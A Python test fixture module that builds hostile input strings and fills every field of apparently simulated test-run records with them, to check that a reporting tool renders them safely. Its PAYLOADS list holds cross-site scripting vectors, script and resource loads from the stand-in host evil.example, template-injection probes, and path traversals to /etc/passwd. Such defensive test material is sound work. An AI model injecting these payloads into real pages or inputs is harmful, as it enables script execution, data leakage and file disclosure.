"""Texts that mean to be more than text, and runs in which every field that can reach a page is one of them.

Each of them that could run anything sets `window.ran` or asks for `http://evil.example/`.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from evidence_files import a_failure, a_finding, a_head, a_verdict, an_end, live
from provendor.probes.history import History, Sample, Transition, Watched
from provendor.probes.outbox import Message, Outbox
from provendor.probes.states import State
from provendor.verdict import Outcome, Party

_RUN = "window.ran=1"
_HANDLERS = (
    "onload", "onerror", "onclick", "onfocus", "onmouseover", "onpointerenter", "onanimationstart", "ontransitionend",
    "ontoggle", "onbegin", "onend", "onpageshow", "onhashchange", "onscroll", "onwheel", "oninput", "oninvalid",
    "onresize", "onbeforeprint", "onmessage", "onbeforetoggle",
)  # fmt: skip

PAYLOADS: tuple[str, ...] = (
    # scripts
    f"<script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script\n>{_RUN}</script\n>",
    '<script src="http://evil.example/x.js"></script>',
    '<script src="//evil.example/x.js"></script>',
    '<script src="data:text/javascript,window.ran=1"></script>',
    f"<script type=module>{_RUN}</script>",
    f"<<script>{_RUN}//<</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    '<noscript><p title="</noscript><img src=x onerror=window.ran=1>">',
    f"\u003cscript\u003e{_RUN}\u003c/script\u003e",
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "&#60;script&#62;window.ran=1&#60;/script&#62;",
    "\uff1cscript\uff1ewindow.ran=1\uff1c/script\uff1e",
    "%3Cscript%3Ewindow.ran=1%3C/script%3E",
    "+ADw-script+AD4-window.ran=1+ADw-/script+AD4-",
    # closing what we have opened
    f"</script><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</pre></details></td></tr></table></section></main><script>{_RUN}</script>",
    "</body></html><h1>all is well</h1>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    "<!--",
    "<!-- -- --!> <b>",
    "<![CDATA[<b>]]>",
    "<plaintext>",
    "<xmp>",
    "<template><b>gone</b>",
    "<option><select><style></style>",
    "</td><td>100 pass</td>",
    # leaving attributes
    f'" onmouseover="{_RUN}',
    f"' onmouseover='{_RUN}",
    f"` onmouseover=`{_RUN}",
    f'"><img src=x onerror={_RUN}>',
    f"'><svg onload={_RUN}>",
    f'x" autofocus onfocus="{_RUN}" tabindex="0',
    '" style="position:fixed;inset:0;background:red" x="',
    # handlers
    *(f"<img src=x {handler}={_RUN}>" for handler in _HANDLERS),
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<input autofocus onfocus={_RUN}>",
    f"<marquee onstart={_RUN}>",
    f'<style>@keyframes x{{}}</style><b style="animation-name:x" onanimationstart="{_RUN}">',
    # addresses
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    f"\x01javascript:{_RUN}",
    "data:text/html,<script>window.ran=1</script>",
    "vbscript:msgbox(1)",
    "http://evil.example/?a=<b>",
    "//evil.example/",
    f'<a href="javascript:{_RUN}">click</a>',
    f'<iframe src="javascript:{_RUN}"></iframe>',
    '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
    '<object data="http://evil.example/"></object>',
    '<embed src="http://evil.example/">',
    '<form action="http://evil.example/"><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<base href="http://evil.example/">',
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    '<link rel="prefetch" href="http://evil.example/">',
    '<img src="http://evil.example/pixel.png">',
    '<img srcset="http://evil.example/2x.png 2x">',
    '<a href="http://evil.example/" ping="http://evil.example/">x</a>',
    # CSS
    "<style>*{display:none!important}</style>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "}*{display:none}",
    "</style><style>body{background:url(http://evil.example/)}</style>",
    '<b style="position:fixed;inset:0;background:url(http://evil.example/)">x</b>',
    "expression(window.ran=1)",
    "-moz-binding:url(http://evil.example/x.xml#x)",
    # SVG and MathML
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><script href=data:,{_RUN} /></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{_RUN}"><text y="20">x</text></a></svg>',
    '<svg><use href="http://evil.example/x.svg#x"/></svg>',
    '<svg><foreignObject><iframe src="http://evil.example/"></iframe></foreignObject></svg>',
    f"<svg><style><img src=x onerror={_RUN}></style></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={_RUN}>",
    f'<math href="javascript:{_RUN}">x</math>',
    # templates
    "{{ 7 * 7 }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% raw %}{{ 1 }}",
    "{% endraw %}{% include '/etc/passwd' %}",
    "{# gone #}",
    "{{ config }}{{ self }}{{ story }}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "%(x)s %s {0} {x.__class__}",
    # direction, control and invisible characters
    "\u202egnp.exe",
    "\u2066\u2067\u2068abc\u2069",
    "\u200b\u200c\u200d\u2060\ufeffhidden",
    "a\x00b",
    "\x1b[2J\x1b[31mred",
    "a\rb\nc\td\x0be\x0cf",
    "\x7f\x80\x9f",
    "line\u2028separator\u2029paragraph",
    "soft\u00adhyphen\u00a0nbsp",
    "".join(map(chr, range(1, 32))),
    "\U000e0041\U000e0042 tags",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033da\u0310\u030d\u030el\u0300\u0301\u0302\u0303\u0304" * 20,
    "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd abc",
    "\ud83d half a pair \udc00",
    "\U0001f600 \U0001f469\u200d\U0001f680",
    "\ufffd\ufffe\uffff",
    # what breaks a layout
    "x" * 100_000,
    "wide " * 20_000,
    "\n" * 5_000,
    "\t" * 5_000,
    "-" * 3_000,
    "<" * 20_000,
    "&" * 20_000,
    "\u0301" * 5_000,
    "\ufdfd" * 500,
    "_" * 5_000,
    # paths and ids
    "../../etc/passwd",
    "..\\..\\windows",
    "/etc/passwd",
    "con",
    "#main",
    "__proto__",
    "constructor",
    "",
    " ",
    ".",
    "main",
    "cases",
)


def a_hostile_result(text: str, number: int) -> dict[str, Any]:
    """A failure that was asked live, in which every text is this one; the name of the case alone tells it from others."""
    finding = a_finding(text, at=text, key=text, expected=text, actual=text)
    request = {"method": text, "url": text, "query": [[text, text]]}
    record = live(
        a_failure(
            "a/b:c",
            id=f"{text}:{number}", vendor=text, operation=text, case=text, reason=text, contract=text, error=text,
            verdicts=[a_verdict(text, "fail", finding), a_verdict(text, "skip", reason=text)],
            passed=[text], request=request, rerun=text, fallback=text,
            exchange={
                "request_headers": [[text, text]], "request_body": text, "response_headers": [[text, text]],
                "body": json.dumps({text: text}) if number % 2 else text, "body_truncated": False, "body_bytes": 1,
            },
            steps=[{"name": text, "request": request, "status": 200, "elapsed_ms": 1, "passed": [], "verdicts": []}],
        ),
        blame={"party": "vendor", "why": text},
    )  # fmt: skip
    certificate = {"subject": text, "issuer": text, "not_after": "2026-11-25T00:00:00Z"}
    record["live"] |= {"environment": text, "peer": {"address": text, "protocol": text, "certificate": certificate}}
    record["live"]["attempts"][0] |= {"status": None, "error": text}
    return record


def a_hostile_head(text: str, **changes: Any) -> dict[str, Any]:
    """What is said of a run, in which every text is this one."""
    pending = [{"case": text, "reason": text, "ticket": text, "until": text}]
    known = {
        "title": text, "owner": text, "docs": text, "runbook": text, "cases": 1, "probes": 1,
        "flag": {"env": text, "on": True}, "credentials": [{"env": text, "name": text, "present": False}],
        "environments": {"sandbox": True}, "pending": pending, "blocks": text, "unblock": text,
    }  # fmt: skip
    vendors = {each: {**known, "title": each, "docs": each} for each in PAYLOADS}
    told: dict[str, Any] = {
        "command": text,
        "selectors": [text],
        "git_commit": text,
        "tools": {text: text},
        "now": text,
    }
    return a_head(**told, started_at=text, mode=text, vendors=vendors, **changes)


def a_hostile_history(reports: Path, texts: tuple[str, ...], now: float) -> None:
    """Write a history in which every text is hostile: a case in trouble for each, and a message to people."""
    with History(reports) as history:
        for number, text in enumerate(each.encode("utf-8", "backslashreplace").decode() for each in texts):
            watched = Watched(text, text, str(number), text)
            sample = Sample(watched, now - 60, Outcome.FAIL, 500, 1.0, 1, text, Party.VENDOR, text, text)
            turn = Transition(watched, now, None, Outcome.FAIL, None, text, Party.VENDOR, text, text)
            history.record([sample], {watched: State(Outcome.FAIL, now - 60, Outcome.FAIL, now - 60)}, [turn])
        sayable = [text for text in texts if text.isprintable()]
        Outbox(history).put({}, [Message(text, text, str(n), text, text) for n, text in enumerate(sayable)], now - 60)


def a_hostile_run(reports: Path, texts: tuple[str, ...] = PAYLOADS, head: str = PAYLOADS[0]) -> Path:
    """Write a run of such results, with bytes that are no UTF-8 in one of them."""
    records: Iterator[dict[str, Any]] = (a_hostile_result(text, number) for number, text in enumerate(texts))
    lines = [
        {"type": "run", **a_hostile_head(head)},
        *({"type": "result", **each} for each in records),
        {"type": "end", **an_end()},
    ]
    text = "\n".join(json.dumps(each) for each in lines)
    invalid = (
        json.dumps({"type": "result", **a_hostile_result("BYTES", 999)})
        .encode()
        .replace(b"BYTES", b"\xff\xfe\xc0 bytes")
    )
    path = reports / "run.jsonl"
    reports.mkdir(parents=True, exist_ok=True)
    path.write_bytes(text.encode() + b"\n" + invalid + b"\n")
    return path
